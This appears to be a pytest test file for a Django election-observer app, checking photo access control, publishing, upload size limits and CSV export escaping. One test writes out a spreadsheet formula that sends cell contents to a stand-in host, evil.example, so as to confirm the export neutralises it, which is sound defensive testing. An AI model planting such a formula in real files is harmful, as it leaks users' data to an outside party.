"""Observers' files: random names, never public but for a published note's photos; the
coordinators' CSV writes an observer's formula as text."""

import csv
import io
import re

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from observers.models import Note
from observers.services import Refused, note_file, note_publish
from tests.clients import client_for
from tests.files import JPEG
from tests.observers.test_accreditation import ON_THE_DAY

pytestmark = pytest.mark.django_db


def test_an_observers_photo_is_for_the_commission_only(world, django_user_model):
    accreditation = world.observer(photo=SimpleUploadedFile("Aliya Nurova.JPG", JPEG))
    url = f"/media/{accreditation.photo.name}"
    stranger = django_user_model.objects.create_user("stranger")

    assert re.fullmatch(r"observers/photos/[0-9a-f]{32}\.jpg", accreditation.photo.name)
    assert Client().get(url).status_code == 404
    assert client_for(stranger).get(url).status_code == 404
    assert client_for(world.cec).get(url).status_code == 200


@time_machine.travel(ON_THE_DAY, tick=False)
def test_a_notes_photo_is_public_once_its_organisation_publishes_the_note(
    world,
    observer,
    django_user_model,
):
    note = note_file(
        accreditation=observer, station=world.station, phase="voting", category="secrecy",
        severity="violation", text="Open voting", at=ON_THE_DAY,
        photos=[SimpleUploadedFile("IMG_0001.jpeg", JPEG)],
    )  # fmt: skip
    url = f"/media/{note.photos.get().image.name}"
    coordinator = django_user_model.objects.create_user("coordinator")
    observer.organisation.coordinators.add(coordinator)

    assert Client().get(url).status_code == 404
    assert client_for(observer.user).get(url).status_code == 200
    assert client_for(coordinator).get(url).status_code == 200
    note_publish(note=note, user=coordinator)
    assert Client().get(url).status_code == 200


@time_machine.travel(ON_THE_DAY, tick=False)
def test_the_notes_csv_writes_a_formula_as_text(world, observer, django_user_model):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    for text in (formula, "+7 701 000 00 00 called", "-", "@SUM(A1:A9)", "Calm"):
        note_file(
            accreditation=observer, station=world.station, phase="voting", category="other",
            severity="information", text=text, at=ON_THE_DAY,
        )  # fmt: skip
    coordinator = django_user_model.objects.create_user("coordinator")
    observer.organisation.coordinators.add(coordinator)

    export = client_for(coordinator).get("/observe/organisation/?format=csv").text
    texts = sorted(row["text"] for row in csv.DictReader(io.StringIO(export)))

    assert texts == sorted(
        ["'" + formula, "'+7 701 000 00 00 called", "'-", "'@SUM(A1:A9)", "Calm"]
    )


@time_machine.travel(ON_THE_DAY, tick=False)
def test_a_photo_over_the_size_limit_is_refused_and_the_note_not_saved(world, observer):
    photo = SimpleUploadedFile("box.jpg", JPEG + b"\xff" * (11 * 1024 * 1024))

    with pytest.raises(Refused, match=r"^photos: the file is 11\.5 MB; at most 10 MB"):
        note_file(
            accreditation=observer, station=world.station, phase="voting", category="other",
            severity="information", text="Seal", at=ON_THE_DAY, photos=[photo],
        )  # fmt: skip

    assert not Note.objects.exists()
